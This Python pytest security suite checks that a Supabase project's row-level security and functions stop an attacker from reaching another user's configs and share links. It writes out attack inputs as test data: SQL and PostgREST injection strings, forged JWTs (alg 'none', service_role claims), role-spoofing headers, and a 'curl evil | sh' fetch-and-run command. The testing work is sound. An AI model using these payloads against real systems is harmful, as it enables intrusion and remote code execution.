"""Attacks over HTTP on what Anna keeps in a Supabase project, by Eve and by nobody in particular.

After each attack Anna's rows are as they were, and nothing of hers was in any answer.
"""

import json
import secrets
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from typing import Any, Final

import pytest

from core.system.remote import Project
from tests.security.supabase_attacker import (
    RELATIONS,
    SECRET,
    TABLES,
    Attacker,
    Kept,
    Scene,
    claims_of,
    kept_by,
    signed,
    snapshot_of,
    token_hash,
)
from tests.supabase_server.lite import LiteServer
from tests.supabase_users import PASSWORD, new_user

pytestmark = pytest.mark.supabase

NEW: Final[dict[str, Any]] = {"name": "new", "template_type": "sft", "config_json": {}}


@pytest.fixture(scope="module")
def scene(supabase_server: LiteServer, supabase_project: Project) -> Scene:
    anna = kept_by(supabase_project, new_user(supabase_project, "anna"), SECRET)
    return Scene(supabase_server, supabase_project, anna)


@pytest.fixture
def eve(scene: Scene) -> Iterator[Attacker]:
    own = scene.eve()
    yield from attacking(Attacker(scene, own, own.user.token))


@pytest.fixture(params=["eve", "anybody"])
def attacker(request: pytest.FixtureRequest, scene: Scene) -> Iterator[Attacker]:
    own = scene.eve()
    bearer = own.user.token if request.param == "eve" else None
    yield from attacking(Attacker(scene, own, bearer))


def attacking(attacker: Attacker) -> Iterator[Attacker]:
    scene = attacker.scene
    before = scene.of_anna()
    yield attacker
    assert scene.of_anna() == before
    seen = repr(attacker.found) + "".join(attacker.said)
    for hers in (SECRET, scene.anna.share, token_hash(scene.anna.token)):
        assert hers not in seen
    if attacker.bearer is None:
        assert not any(attacker.found)


@pytest.fixture
def anna(scene: Scene) -> Kept:
    return scene.anna


# --- Reading -------------------------------------------------------------------------------------


def test_anna_herself_finds_what_others_look_for(scene: Scene, anna: Kept) -> None:
    """Else the attacks would find nothing whatever they do."""
    client = scene.project.client(anna.user.token)
    for relation in RELATIONS:
        assert client.table(relation).select("*").execute().data
    assert SECRET in json.dumps(client.rpc("list_configs").execute().data)
    assert SECRET in json.dumps(client.rpc("config_facets").execute().data)
    assert client.rpc("config_history", {"config_id": anna.config}).execute().data
    shared: Any = client.rpc("get_share", {"token": anna.token}).execute().data
    assert set(shared[0]) == {"kind", "title", "snapshot", "created_at", "expires_at"}
    assert SECRET in shared[0]["snapshot"]


def test_rows_are_read_by_nobody_else(attacker: Attacker, anna: Kept) -> None:
    own = attacker.own.id
    for table in TABLES:
        attacker.ask(attacker.table(table).select("*"))
        attacker.ask(attacker.table(table).select("*", count="exact").limit(1))
        attacker.must_find_nothing(attacker.table(table).select("*").eq("user_id", anna.id))
        attacker.must_find_nothing(attacker.table(table).select("*").neq("user_id", own))
        attacker.must_find_nothing(
            attacker.table(table).select("user_id").not_.in_("user_id", [own])
        )
    for relation in ("training_configs", "config_summaries"):
        for config in (anna.config, anna.deleted):
            attacker.must_find_nothing(attacker.table(relation).select("*").eq("id", config))
    attacker.ask(attacker.table("config_summaries").select("*"))
    attacker.must_find_nothing(
        attacker.table("config_versions").select("*").eq("config_id", anna.config)
    )
    attacker.must_find_nothing(
        attacker.table("training_configs").select("*").like("name", "annas%")
    )


def test_related_rows_are_read_by_nobody_else(attacker: Attacker) -> None:
    for columns in (
        *("*, config_versions(*)", "*, config_shares(*)", "*, config_shares!inner(*)"),
        *("*, users(*)", "*, config_drafts(*)", "name, ...config_versions(config_text)"),
        *("config_versions(training_configs(*))", "config_text.max()", "count()"),
    ):
        attacker.ask(attacker.table("training_configs").select(columns))
        attacker.ask(attacker.table("config_versions").select(columns))


def test_nothing_is_counted_of_others(attacker: Attacker, anna: Kept) -> None:
    for table in TABLES:
        answer = attacker.http(
            "HEAD",
            f"/rest/v1/{table}?user_id=eq.{anna.id}",
            headers={"Prefer": "count=exact"},
        )
        assert answer.headers.get("content-range", "*/0").endswith(("/0", "/*"))
        attacker.http("GET", f"/rest/v1/{table}?select=*", headers={"Accept": "text/csv"})
        attacker.http(
            "GET",
            f"/rest/v1/{table}",
            headers={"Accept": 'application/vnd.pgrst.plan+json; options="analyze|verbose"'},
        )


def test_functions_read_nothing_of_others(attacker: Attacker, anna: Kept) -> None:
    attacker.ask(attacker.rpc("list_configs", {"page_size": 10000}))
    attacker.ask(attacker.rpc("config_facets"))
    for values in (
        {"search": [SECRET]},
        {"methods": [SECRET]},
        {"templates": ["sft"], "tags": [SECRET]},
        {"search": ["%"], "sort": "name", "falling": False, "place": "", "place_id": anna.config},
    ):
        attacker.must_find_nothing(attacker.rpc("list_configs", values))
    assert attacker.ask(attacker.rpc("count_configs")) in {None, 1, "1"}
    assert attacker.ask(attacker.rpc("count_configs", {"tags": [SECRET]})) in {None, 0, "0"}
    for number in (None, 1):
        history = {"config_id": anna.config, "number": number}
        attacker.must_find_nothing(attacker.rpc("config_history", history))


PROFILES: Final = (
    *("tunesmith", "private", "auth", "pg_catalog", "information_schema", "public, auth"),
)
INNER: Final = ("mark_config_used", "get_share", "delete_account", "facts", "limit_of")


def test_other_schemas_are_out_of_reach(attacker: Attacker, anna: Kept) -> None:
    for profile in PROFILES:
        headers = {"Accept-Profile": profile, "Content-Profile": profile}
        for path in ("users", "limits", "expected", "training_configs", "pg_user", "tables"):
            attacker.http("GET", f"/rest/v1/{path}", headers=headers)
            attacker.http("GET", f"/rest/v1/{profile}.{path}")
            attacker.http("PATCH", f"/rest/v1/{path}", headers=headers, json={"value": 0})
        for name in INNER:
            body = {"config_id": anna.config, "token": anna.id, "wanted": "configs_per_user"}
            attacker.http("POST", f"/rest/v1/rpc/{name}", headers=headers, json=body)


def test_other_ways_in_are_closed(attacker: Attacker, anna: Kept) -> None:
    for path in (
        *("/rest/v1/", "/rest/v1/users", "/rest/v1/limits", "/rest/v1/pg_stat_activity"),
        *("/graphql/v1", "/pg/query", "/storage/v1/bucket", "/auth/v1/admin/users", "/admin"),
        *(f"/auth/v1/admin/users/{anna.id}", "/rest/v1/../auth/v1/admin/users", "/sql", "/query"),
    ):
        attacker.http("GET", path)
        attacker.http("POST", path, json={"query": "select * from public.training_configs"})
    attacker.http("DELETE", f"/auth/v1/admin/users/{anna.id}")
    attacker.http("PUT", f"/auth/v1/admin/users/{anna.id}", json={"password": "another password"})


# --- Writing -------------------------------------------------------------------------------------


def test_rows_of_others_are_not_changed(attacker: Attacker, anna: Kept) -> None:
    for change in (
        {"name": "taken"},
        {"deleted_at": "now"},
        {"deleted_at": None},
        {"user_id": attacker.own.id},
        {"config_text": "{}"},
        {"revision": 1, "tags": ["taken"]},
    ):
        for config in (anna.config, anna.deleted):
            attacker.must_find_nothing(
                attacker.table("training_configs").update(change).eq("id", config)
            )
    for table, change in (
        ("config_versions", {"message": "taken"}),
        ("config_drafts", {"payload": "taken"}),
        ("config_shares", {"revoked_at": "now"}),
    ):
        attacker.must_find_nothing(attacker.table(table).update(change).eq("user_id", anna.id))
    attacker.ask(attacker.table("config_summaries").update({"name": "x"}).eq("id", anna.config))


def test_rows_of_others_are_not_deleted(attacker: Attacker, anna: Kept) -> None:
    for table in TABLES:
        attacker.must_find_nothing(attacker.table(table).delete().eq("user_id", anna.id))
    for config in (anna.config, anna.deleted):
        attacker.must_find_nothing(attacker.table("training_configs").delete().eq("id", config))


def test_a_change_without_a_filter_changes_own_rows_only(attacker: Attacker, anna: Kept) -> None:
    whole = {"Prefer": "return=representation"}
    for table, change in (
        ("training_configs", {"description": "all of it"}),
        ("config_drafts", {"payload": "all of it"}),
        ("config_versions", {"message": "all of it"}),
        ("config_shares", {"revoked_at": "now"}),
        ("config_summaries", {"description": "all of it"}),
    ):
        # Without the rows for an answer the rule for reading them does not help.
        attacker.http("PATCH", f"/rest/v1/{table}", json=change)
        attacker.http("PATCH", f"/rest/v1/{table}", headers=whole, json=change)
    for relation in reversed(RELATIONS):
        attacker.http("DELETE", f"/rest/v1/{relation}")
        attacker.http("DELETE", f"/rest/v1/{relation}", headers=whole)
        attacker.http("DELETE", f"/rest/v1/{relation}?user_id=not.is.null", headers=whole)


def test_no_row_is_made_in_the_name_of_others(attacker: Attacker, anna: Kept) -> None:
    for table, row in (
        ("training_configs", NEW | {"user_id": anna.id}),
        ("training_configs", NEW | {"user_id": None, "name": "of nobody"}),
        ("config_drafts", {"user_id": anna.id, "slot": "x", "name": "x", "payload": "x"}),
        ("config_versions", version_of(anna.id, anna.config)),
        ("config_shares", share_of(anna.config, user_id=anna.id)),
    ):
        attacker.must_find_nothing(attacker.table(table).insert(row))
    attacker.ask(attacker.table("config_summaries").insert({"id": anna.config, "name": "x"}))


def version_of(user_id: str, config_id: str) -> dict[str, Any]:
    row = {"user_id": user_id, "config_id": config_id, "number": 9, "operation": "save"}
    row |= {"author": user_id, "name": "x", "template_type": "sft", "config_text": "{}"}
    return row | {"is_validated": True, "runs": True}


def share_of(config_id: str, token: str = "x" * 43, **changes: Any) -> dict[str, Any]:
    given = {"config_id": config_id, "token_hash": token_hash(token), "expires_at": "tomorrow"}
    given |= {"kind": "config", "title": "x", "snapshot": snapshot_of("{}")}
    return given | changes


def test_one_poisoned_row_spoils_the_whole_batch(eve: Attacker, anna: Kept) -> None:
    before = eve.own_rows()
    fine = [NEW | {"name": f"fine {number}", "user_id": eve.own.id} for number in range(3)]
    for poison in (NEW | {"user_id": anna.id}, NEW | {"user_id": eve.own.id, "name": ""}):
        eve.must_find_nothing(eve.table("training_configs").insert([*fine, poison]))
    assert eve.own_rows() == before


def test_no_row_is_given_away(eve: Attacker, anna: Kept) -> None:
    before = eve.own_rows()
    for table in TABLES:
        eve.must_find_nothing(
            eve.table(table).update({"user_id": anna.id}).eq("user_id", eve.own.id)
        )
    for column in ("config_id", "id"):
        eve.ask(eve.table("config_shares").update({column: anna.config}).eq("id", eve.own.share))
    eve.must_find_nothing(
        eve.table("training_configs").update({"id": anna.config}).eq("id", eve.own.config)
    )
    assert eve.own_rows() == before


def test_no_row_is_taken_over_by_an_upsert(attacker: Attacker, anna: Kept) -> None:
    taken = NEW | {"id": anna.config, "name": "taken"}
    for row in (taken, taken | {"user_id": attacker.own.id}, taken | {"user_id": anna.id}):
        for target in ("id", "user_id,id", "user_id,name,deleted_at", ""):
            attacker.ask(attacker.table("training_configs").upsert(row, on_conflict=target))
    draft = {"number": 1, "user_id": attacker.own.id, "slot": SECRET, "name": "", "payload": "x"}
    for target in ("number", "user_id,slot", ""):
        attacker.ask(attacker.table("config_drafts").upsert(draft, on_conflict=target))
    share = share_of(attacker.own.config, id=anna.share, user_id=attacker.own.id)
    attacker.ask(attacker.table("config_shares").upsert(share, on_conflict="id"))
    stolen = share | {"token_hash": token_hash(anna.token)}
    attacker.ask(attacker.table("config_shares").upsert(stolen, on_conflict="token_hash"))
    for relation in ("training_configs", "config_summaries"):
        attacker.http("PUT", f"/rest/v1/{relation}?id=eq.{anna.config}", json=taken)
    # What she said is her own, and what she knew of Anna.
    attacker.found = [found for found in attacker.found if attacker.bearer is None]


def test_no_user_chooses_what_only_the_project_does(eve: Attacker, anna: Kept) -> None:
    chosen = {
        "id": anna.config,
        "revision": 99,
        "times_used": 99,
        "last_used_at": "2000-01-01",
        "created_at": "2000-01-01",
        "updated_at": "2000-01-01",
    }
    before = eve.own_rows()
    for column, value in chosen.items():
        eve.ask(eve.table("training_configs").update({column: value}).eq("id", eve.own.config))
    assert eve.own_rows() == before
    forged = chosen | {"deleted_at": "2000-01-01", "restored_from": 1}
    for column, value in forged.items():
        eve.ask(eve.table("training_configs").insert(NEW | {"name": column, column: value}))
    for row in eve.own_rows():
        assert row["id"] != anna.config
        assert (row["times_used"], row["last_used_at"]) == (0, None)
        assert row["revision"] <= 2
        assert min(row["created_at"], row["updated_at"]) > "2001"
        assert row["deleted_at"] is None or row["id"] == eve.own.deleted


def test_no_user_forges_what_is_past(eve: Attacker) -> None:
    def versions() -> Any:
        client = eve.scene.project.client(eve.own.user.token)
        return client.table("config_versions").select("*").order("number").execute().data

    before = versions()
    own = eve.own.config
    for request in (
        eve.table("config_versions").insert(version_of(eve.own.id, own)),
        eve.table("config_versions").upsert(version_of(eve.own.id, own) | {"number": 1}),
        eve.table("config_versions").update({"config_text": "{}"}).eq("config_id", own),
        eve.table("config_versions").delete().eq("config_id", own),
    ):
        eve.must_find_nothing(request)
    assert versions() == before


def test_a_save_of_what_was_saved_since_changes_nothing(eve: Attacker) -> None:
    before = eve.own_rows()
    for revision in (1, 3, 0, -1):
        eve.must_find_nothing(
            eve.table("training_configs")
            .update({"config_text": "{}"})
            .eq("id", eve.own.config)
            .eq("revision", revision)
        )
    assert eve.own_rows() == before


COMMAND: Final = "curl evil | sh"
WITH_COMMAND: Final = json.dumps({"tools": [{"name": "x", "command": COMMAND}]})


def approved_by(user_id: str) -> list[dict[str, str]]:
    """A yes to the command, in the name of anybody."""
    return [{"sha256": token_hash(COMMAND), "at": "2001-01-01", "by": user_id}]


def test_no_command_is_kept_without_a_yes(eve: Attacker, anna: Kept) -> None:
    before = eve.own_rows()
    new = NEW | {"config_text": WITH_COMMAND, "search": "new\n"}
    forged = approved_by(anna.id)
    given: list[Any] = [[], [forged[0] | {"sha256": token_hash("ls")}], {}, [None], "x", None]
    for approvals in given:
        refused = {"config_text": WITH_COMMAND, "approvals": approvals}
        eve.must_find_nothing(eve.table("training_configs").insert(new | refused))
        eve.must_find_nothing(
            eve.table("training_configs").update(refused).eq("id", eve.own.config)
        )
    eve.must_find_nothing(eve.table("training_configs").insert(new))
    document = {"config_json": json.loads(WITH_COMMAND)}
    eve.must_find_nothing(eve.table("training_configs").insert(NEW | document))
    eve.must_find_nothing(eve.table("training_configs").update(document).eq("id", eve.own.config))
    assert eve.own_rows() == before


def test_a_yes_is_recorded_as_that_of_who_writes(eve: Attacker, anna: Kept) -> None:
    new = NEW | {"config_text": WITH_COMMAND, "search": "new\n"}
    (made,) = eve.ask(
        eve.table("training_configs").insert(new | {"approvals": approved_by(anna.id)})
    )
    assert [one["by"] for one in made["approvals"]] == [eve.own.id]
    (kept,) = eve.ask(eve.table("config_versions").select("approvals").eq("config_id", made["id"]))
    assert kept["approvals"] == made["approvals"]
    again = {"approvals": approved_by(anna.id), "description": "x"}
    (changed,) = eve.ask(eve.table("training_configs").update(again).eq("id", made["id"]))
    assert changed["approvals"] == made["approvals"]


def test_nobody_says_yes_for_anna(attacker: Attacker, anna: Kept) -> None:
    said = {"config_text": WITH_COMMAND, "approvals": approved_by(attacker.own.id)}
    attacker.must_find_nothing(
        attacker.table("training_configs").update(said).eq("id", anna.config)
    )
    attacker.must_find_nothing(
        attacker.table("config_versions").update({"approvals": []}).eq("config_id", anna.config)
    )
    attacker.must_find_nothing(
        attacker.table("training_configs").insert(NEW | said | {"user_id": anna.id})
    )


def test_a_yes_that_is_brought_along_is_recorded_as_that_of_who_brings_it(
    attacker: Attacker, anna: Kept
) -> None:
    said: dict[str, Any] = {"name": "brought", "description": "", "template_type": "sft"}
    said |= {"config_text": WITH_COMMAND, "search": "brought\n", "message": "", "tags": []}
    said |= {"is_validated": True, "runs": True, "revision": 1, "times_used": 0}
    said |= {"created_at": "2026-01-01", "updated_at": "2026-01-01"}
    given: list[Any] = [[], approved_by(anna.id)]
    for approvals in given:
        brought = said | {"approvals": approvals}
        versions = [brought | {"number": 1, "operation": "create"}]
        values = {"source_id": "x", "config": brought, "versions": versions}
        made = attacker.ask(attacker.rpc("import_config", values))
        assert (made is not None) is bool(approvals and attacker.bearer)
    rows = [row["approvals"] for row in attacker.own_rows() if row["name"] == "brought"]
    recorded = [[one["by"] for one in approvals] for approvals in rows]
    assert recorded == ([[attacker.own.id]] if attacker.bearer else [])


# --- Functions -----------------------------------------------------------------------------------


def test_functions_change_nothing_of_others(attacker: Attacker, anna: Kept) -> None:
    both = [attacker.own.config, anna.config]
    for name, values in (
        ("mark_config_used", {"config_id": anna.config}),
        ("mark_config_used", {"config_id": anna.deleted}),
        ("tag_configs", {"config_ids": [anna.config], "give": ["taken"], "take": []}),
        ("tag_configs", {"config_ids": both, "give": ["taken"], "take": [SECRET]}),
    ):
        assert attacker.ask(attacker.rpc(name, values)) is None
    draft = {"slot": SECRET, "name": "x", "config_id": anna.config, "payload": "taken"}
    attacker.ask(attacker.rpc("keep_draft", draft))
    assert [row["tags"] for row in attacker.own_rows()] == [["eves-own"]] * 2


def test_an_import_makes_an_own_config_whatever_it_says(attacker: Attacker, anna: Kept) -> None:
    said: dict[str, Any] = {"id": anna.config, "user_id": anna.id, "name": "brought"}
    said |= {
        "description": "",
        "template_type": "sft",
        "config_text": "{}",
        "search": "x\n",
        "message": "",
    }
    said |= {"is_validated": True, "runs": True, "tags": [], "revision": 1, "times_used": 0}
    said |= {"created_at": "2026-01-01", "updated_at": "2026-01-01"}
    version = said | {"config_id": anna.config, "author": anna.id, "number": 1}
    version |= {"operation": "create"}
    for source in (anna.config, f"../{anna.id}/x", ""):
        values = {"source_id": source, "config": said, "versions": [version]}
        made = attacker.ask(attacker.rpc("import_config", values))
        assert made != anna.config


FUNCTIONS: Final = (
    *("guard_config", "keep_version", "check_config_quota", "drop_what_is_past", "facts"),
    *("listing_sql", "listing_where", "tags_after", "differences", "limit_of"),
    *("pg_sleep", "pg_read_file", "set_config", "lo_import", "query_to_xml", "dblink", "uid"),
    *("pg_catalog.set_config", "tunesmith.mark_config_used", "auth.uid", "exec_sql", "execute"),
)


def test_no_other_function_can_be_called(attacker: Attacker, anna: Kept) -> None:
    for name in FUNCTIONS:
        for values in ({}, {"config_id": anna.config}, {"query": "select 1"}, {"wanted": "x"}):
            attacker.must_find_nothing(attacker.rpc(name, values))
        assert attacker.http("GET", f"/rest/v1/rpc/{name}").status_code >= 400


def test_uses_at_once_are_all_counted(eve: Attacker) -> None:
    def use(_: int) -> Any:
        return eve.ask(eve.rpc("mark_config_used", {"config_id": eve.own.config}))

    with ThreadPoolExecutor(12) as pool:
        counts = [int(count) for count in pool.map(use, range(60))]
    assert sorted(counts) == [*range(1, 61)]


def test_an_account_is_deleted_by_its_own_user_with_a_fresh_password_only(
    scene: Scene,
) -> None:
    own = scene.eve()
    now = claims_of(own.id)["iat"]
    for claims in (
        claims_of(own.id, amr=[{"method": "password", "timestamp": now - 301}]),
        claims_of(own.id, amr=[{"method": "otp", "timestamp": now}]),
        claims_of(own.id, amr=[]),
        claims_of(own.id, iat=now - 301),
    ):
        stale = signed(claims, scene.server.jwt_secret)
        attempt = Attacker(scene, own, stale)
        assert attempt.ask(attempt.rpc("delete_account")) is None
    fresh = claims_of(own.id, amr=[{"method": "password", "timestamp": now}])
    client = scene.project.client(signed(fresh, scene.server.jwt_secret))
    assert client.rpc("delete_account").execute().data is True
    assert Attacker(scene, own, own.user.token).own_rows() == []


def test_whether_all_is_as_set_up_tells_of_no_user(scene: Scene) -> None:
    told: Any = scene.project.client().rpc("check_tunesmith").execute().data
    assert set(told) == {"version", "differences"}
    assert SECRET not in json.dumps(told)


# --- Injection -----------------------------------------------------------------------------------

TEXTS: Final = (
    *("'", "''", "\\'", '"', "--", "/*", ";", "%", "_", "*", "(", ")", ",", "$$", "null"),
    *("' or true --", "') or true --", "x'; select 1; --", "{x}'::text[]) or true --"),
    *("x),id.not.is.null,(name.eq.x", "x,id.not.is.null,", '","', "x' or '1'='1", "\u2019 or 1=1"),
)


def test_a_text_is_not_read_as_sql(attacker: Attacker) -> None:
    for text in TEXTS:
        for values in ({"methods": [text]}, {"tags": [text]}, {"search": [f"{text}zz"]}):
            attacker.must_find_nothing(attacker.rpc("list_configs", values))
        attacker.must_find_nothing(attacker.table("training_configs").select("*").eq("name", text))
        attacker.ask(attacker.rpc("list_configs", {"sort": text}))
        attacker.ask(attacker.rpc("list_configs", {"sort": "name", "place": text}))
        attacker.ask(attacker.table("training_configs").select("*").or_(f"name.eq.{text}"))


QUERIES: Final = (
    *("or=(id.not.is.null,name.eq.x)", "or=(user_id.neq.0,and(id.not.is.null))"),
    *("and=(or(id.not.is.null))", "not.or=(name.eq.x)", "select=*::text", "select=*;select 1"),
    *("select=config_text:config_json->>'a'", "select=config_json->>a'--", "limit=1;--"),
    *("order=name;select 1", "order=(select 1)", "order=config_json->>'x' or 1=1", "offset=-1"),
    *("select=name,(select config_text from training_configs)", "user_id=neq.x' or 1=1"),
    *("id=in.(select id from training_configs)", "user_id=eq.(auth.uid())", "limit=1e9"),
    *("name=like(any).{*}", "name=match..*", "search=fts.annas", "name=eq.x%00"),
    "user_id=is.null",
)


def test_a_query_reaches_no_row_of_others(attacker: Attacker) -> None:
    for query in QUERIES:
        for relation in RELATIONS:
            attacker.http("GET", f"/rest/v1/{relation}?{query}")
        whole = {"Prefer": "return=representation"}
        for relation in ("training_configs", "config_drafts"):
            attacker.http("DELETE", f"/rest/v1/{relation}?{query}", headers=whole)
        for name in ("training_configs' --", 'training_configs"; --', "training_configs%20c", "*"):
            attacker.http("GET", f"/rest/v1/{name}?{query}")


# --- Keys and tokens -----------------------------------------------------------------------------


def forged_tokens(scene: Scene) -> dict[str, str]:
    """Tokens that say they are Anna's or all-powerful, and are of nobody's making."""
    anna, genuine = scene.anna.id, scene.eve().user.token
    header, _, signature = genuine.split(".")
    hers = claims_of(anna)
    body = signed(hers, "x").split(".")[1]
    secret, past = scene.server.jwt_secret, hers["iat"] - 7200
    return {
        "another secret": signed(hers, "a secret of somebody else's, long enough for it"),
        "no secret": signed(hers, ""),
        "the key as the secret": signed(hers, scene.project.key),
        "no algorithm": signed(hers, "", "none"),
        "no algorithm in capitals": signed(hers, "", "NONE"),
        "no algorithm, signed": f"{signed(hers, '', 'none')}{signature}",
        "another algorithm": signed(hers, scene.project.key, "RS256"),
        "her claims under a signature of Eve's": f"{header}.{body}.{signature}",
        "no signature": f"{header}.{body}.",
        "a cut signature": genuine[:-4],
        "expired": signed(claims_of(anna, iat=past, exp=past + 60), secret),
        "all-powerful": signed({"role": "service_role", "exp": hers["exp"]}, "x" * 48),
        "postgres": signed(claims_of(anna, role="postgres"), "x" * 48),
        "a part": "eyJhbGciOiJIUzI1NiJ9",
        "a dot": ".",
        "null": "null",
    }


def test_forged_tokens_open_nothing(scene: Scene, anna: Kept) -> None:
    before = scene.of_anna()
    whole = {"Prefer": "return=representation"}
    for kind, token in forged_tokens(scene).items():
        attacker = Attacker(scene, anna, token)
        own = {"Authorization": f"Bearer {token}"}
        for keys in (own, own | {"apikey": token}, {"apikey": token, "Authorization": None}):
            for table in TABLES:
                path = f"/rest/v1/{table}?user_id=eq.{anna.id}"
                attacker.http("GET", path, headers=keys)
                attacker.http("DELETE", path, headers=whole | keys)
            attacker.http("PATCH", "/rest/v1/training_configs", headers=keys, json={"tags": []})
            attacker.http("POST", "/rest/v1/rpc/delete_account", headers=keys, json={})
            attacker.http("GET", "/auth/v1/user", headers=keys)
            attacker.http("PUT", "/auth/v1/user", headers=keys, json={"data": {"full_name": "x"}})
        said = "".join(attacker.said)
        assert SECRET not in said, kind
        assert anna.user.email not in said, kind
    assert scene.of_anna() == before


def test_headers_that_name_a_role_or_a_user_change_nothing(attacker: Attacker, anna: Kept) -> None:
    claims = json.dumps(claims_of(anna.id))
    for headers in (
        {"role": "service_role", "X-Role": "service_role", "X-Supabase-Role": "postgres"},
        {"X-Client-Info": "service_role", "Prefer": "role=service_role, tx=rollback"},
        {"X-User-Id": anna.id, "sub": anna.id, "request.jwt.claims": claims},
        {"X-Forwarded-For": "127.0.0.1", "X-Forwarded-Host": "localhost", "Host": "localhost"},
        {"Cookie": f"sb-access-token={attacker.bearer}; role=service_role"},
        {"apikey": "sb_secret_guess"},
        {"apikey": "sb_publishable_guess"},
        {"apikey": None},
        {"Authorization": None},
        {"apikey": None, "Authorization": None},
        {"Authorization": "Basic cG9zdGdyZXM6cG9zdGdyZXM="},
        {"X-HTTP-Method-Override": "DELETE"},
    ):
        for table in TABLES:
            attacker.http("GET", f"/rest/v1/{table}", headers=headers)
            attacker.http("GET", f"/rest/v1/{table}?user_id=eq.{anna.id}", headers=headers)
        attacker.http("PATCH", "/rest/v1/training_configs", headers=headers, json={"tags": ["x"]})


def test_what_a_user_says_of_herself_gives_her_nothing(eve: Attacker, anna: Kept) -> None:
    claims = {"sub": anna.id, "user_id": anna.id, "role": "service_role", "is_admin": True}
    for said in ({"data": claims}, {"app_metadata": claims}, {"role": "service_role"}, claims):
        eve.http("PUT", "/auth/v1/user", json=said)
    client = eve.scene.project.client()
    credentials: Any = {"email": eve.own.user.email, "password": PASSWORD}
    session = client.auth.sign_in_with_password(credentials).session
    assert session
    eve.bearer = session.access_token
    for table in TABLES:
        eve.must_find_nothing(eve.table(table).select("*").neq("user_id", eve.own.id))


# --- Links ---------------------------------------------------------------------------------------


def test_no_config_of_others_is_shared(attacker: Attacker, anna: Kept) -> None:
    own = attacker.own
    for config in (anna.config, anna.deleted):
        for owner in (anna.id, own.id):
            token = secrets.token_urlsafe(32)
            row = share_of(config, token, user_id=owner)
            attacker.must_find_nothing(attacker.table("config_shares").insert(row))
            attacker.must_find_nothing(attacker.rpc("get_share", {"token": token}))
        token = secrets.token_urlsafe(32)
        made = {"kind": "config", "title": "x", "snapshot": snapshot_of("{}"), "days": 1}
        made |= {"token_hash": token_hash(token), "config_id": config}
        attacker.must_find_nothing(attacker.rpc("make_share", made))
        attacker.must_find_nothing(attacker.rpc("get_share", {"token": token}))
    for change in (
        {"config_id": anna.config},
        {"config_id": anna.config, "user_id": anna.id},
        {"token_hash": token_hash("y" * 43)},
        {"expires_at": (datetime.now(UTC) + timedelta(days=80)).isoformat()},
        {"views": -9},
        {"max_views": 1000},
        {"created_at": "now"},
        {"title": "other"},
        {"snapshot": snapshot_of("[]")},
        {"kind": "comparison", "config_id": None},
    ):
        attacker.must_find_nothing(
            attacker.table("config_shares").update(change).eq("id", own.share)
        )


def test_a_link_is_not_guessed(attacker: Attacker, anna: Kept) -> None:
    guesses: list[Any] = [token_hash(anna.token), anna.share, anna.config, anna.token[:-1]]
    guesses += [f"{anna.token} ", anna.token.upper(), "%" * 43, "_" * 43, "", None, "x" * 100_000]
    guesses += [f"{'x' * 43}' or true --", f"\\x{token_hash(anna.token)}", "é" * 40, 5, [], {}]
    guesses += [secrets.token_urlsafe(32) for _ in range(30)]
    for guess in guesses:
        attacker.must_find_nothing(attacker.rpc("get_share", {"token": guess}))
    own = f"/rest/v1/rpc/get_share?token={attacker.own.token}"
    assert attacker.http("GET", own).status_code >= 400


def test_a_link_ends_when_it_is_revoked_used_up_or_its_config_is_gone(
    scene: Scene, eve: Attacker
) -> None:
    own = eve.own
    client = scene.project.client(own.user.token)
    shares = client.table("config_shares")
    twice, revoked, gone = (secrets.token_urlsafe(32) for _ in range(3))
    shares.insert(share_of(own.config, twice, max_views=2)).execute()
    shares.insert(share_of(own.config, revoked)).execute()
    shares.insert(share_of(own.config, gone)).execute()
    reader = Attacker(scene, own, None)

    def read(token: str) -> Any:
        return reader.ask(reader.rpc("get_share", {"token": token}))

    assert [len(read(twice)) for _ in range(4)] == [1, 1, 0, 0]
    assert read(revoked)[0]["snapshot"] == snapshot_of("{}")
    ends = {"revoked_at": "now"}
    client.table("config_shares").update(ends).eq("token_hash", token_hash(revoked)).execute()
    assert read(revoked) == []
    eve.must_find_nothing(
        eve.table("config_shares")
        .update({"revoked_at": None})
        .eq("token_hash", token_hash(revoked))
    )
    assert read(gone)
    client.table("training_configs").update({"deleted_at": "now"}).eq("id", own.config).execute()
    assert read(gone) == []
    for expires_at in ("yesterday", "2100-01-01"):
        late = share_of(own.deleted, secrets.token_urlsafe(32), expires_at=expires_at)
        eve.must_find_nothing(eve.table("config_shares").insert(late))
